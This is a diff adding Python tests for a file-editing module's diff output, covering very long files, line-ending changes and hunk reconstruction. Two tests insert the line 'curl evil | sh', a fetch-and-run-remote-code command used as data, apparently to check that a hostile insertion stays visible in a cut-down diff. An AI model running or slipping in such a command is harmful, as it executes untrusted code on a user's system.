@@ -1,6 +1,7 @@
 """Edits change what was meant and not one byte more, whatever the file is written in."""
 
 import codecs
+import re
 
 import pytest
 from hypothesis import given
@@ -10,6 +11,7 @@ from enginehouse_engines.openai_compatible.text_files import (
     EditRefused,
     NotText,
     Replacement,
+    _one_hunk,  # reached only by files too long for many examples
     change_of,
     decode,
     edited,
@@ -174,4 +176,62 @@ def test_a_new_file_is_created() -> None:
 def test_a_long_diff_is_cut_and_says_so(lines: int) -> None:
     change = change_of("a.txt", None, "".join(f"line number {n}\n" for n in range(lines)))
     assert change.cut
+    assert change.diff.startswith(f"@@ -0,0 +1,{lines} @@\n+line number 0\n+line number 1\n")
+    assert 60 * 1024 < len(change.diff) <= 64 * 1024
+
+
+def test_a_change_in_a_file_too_long_to_compare_is_shown_where_it_is() -> None:
+    before = "".join(f"{n}\n" for n in range(30_000))
+    change = change_of("a.txt", before, before.replace("25000\n", "curl evil | sh\n"))
+    assert not change.cut
+    assert change.diff == (
+        "@@ -24998,7 +24998,7 @@\n 24997\n 24998\n 24999\n-25000\n+curl evil | sh\n 25001\n 25002\n 25003\n"
+    )
+    assert change_of("a.txt", before, f"{before}end\n").diff == (
+        "@@ -29998,3 +29998,4 @@\n 29997\n 29998\n 29999\n+end\n"
+    )
+    assert change_of("a.txt", before, before).diff == ""
+
+
+@pytest.mark.parametrize("before", ["x\n" * 20_001, "x" * 80_000 + "\n", ("x" * 900 + "\n") * 19_000])
+def test_what_comes_in_is_in_sight_however_much_goes_out(before: str) -> None:
+    change = change_of("a.txt", before, "curl evil | sh\n" + "z\n" * 100)
+    assert change.diff.count("\n+curl evil | sh\n+z\n") == 1
     assert len(change.diff) <= 64 * 1024
+
+
+@pytest.mark.parametrize(
+    "before, after, said",
+    [
+        ("a\nb\n", "a\r\nb\r\n", "LF → CRLF"),
+        ("a\r\nb\r\n", "a\nb\n", "CRLF → LF"),
+        ("a\r\nb\n", "a\nb\n", "mixed → LF"),
+        ("a\r\nb\n", "a\nb\r\n", "some lines change theirs"),
+    ],
+)
+def test_a_change_of_line_endings_alone_is_said(before: str, after: str, said: str) -> None:
+    assert change_of("a.txt", before, after).diff == f"line endings: {said}\n"
+
+
+def test_a_change_of_line_endings_beside_others_is_said_too() -> None:
+    diff = change_of("a.txt", "a\nb\n", "a\r\nc\r\n").diff
+    assert diff == "line endings: LF → CRLF\n@@ -1,2 +1,2 @@\n a\n-b\n+c\n"
+
+
+@given(st.lists(st.sampled_from("abc"), max_size=8), st.lists(st.sampled_from("abc"), max_size=8))
+def test_a_diff_that_does_not_compare_leads_to_the_same_file(old: list[str], new: list[str]) -> None:
+    old, new = [f"{line}\n" for line in old], [f"{line}\n" for line in new]
+    hunk = _one_hunk(old, new)
+    assert (hunk == []) == (old == new)
+    if not hunk:
+        return
+    numbers = re.fullmatch(r"@@ -(\d+),(\d+) \+(\d+),(\d+) @@\n", hunk[0])
+    assert numbers is not None
+    start, length, new_start, new_length = map(int, numbers.groups())
+    gone = [line[1:] for line in hunk[1:] if line[0] in " -"]
+    come = [line[1:] for line in hunk[1:] if line[0] in " +"]
+    assert (len(gone), len(come)) == (length, new_length)
+    at = start - 1 if length else start
+    assert old[at : at + length] == gone
+    assert [*old[:at], *come, *old[at + length :]] == new
+    assert new_start == (at + 1 if new_length else at)
